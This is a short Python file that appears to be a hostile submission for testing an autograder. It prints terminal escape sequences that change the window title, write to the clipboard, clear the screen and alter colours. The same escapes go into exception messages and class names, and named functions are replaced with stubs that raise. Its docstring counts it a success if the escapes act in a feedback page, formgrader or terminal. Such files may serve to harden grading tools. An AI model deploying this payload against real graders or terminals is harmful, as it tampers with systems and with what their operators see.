"""Puts terminal escapes into output, error text and names: title, clipboard, colours.

Succeeds if it acts in a feedback page, in formgrader or in the terminal.
"""

escapes = "\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b[2J\x1b[31m\x9b1m\x1bPq\x1b\\\b\b\r"
print(escapes)


def raising(*args, **kwargs):
    raise type(f"Error{escapes}", (Exception,), {})(escapes)


for name in NAMES:
    globals()[name] = raising
raise ValueError(escapes)
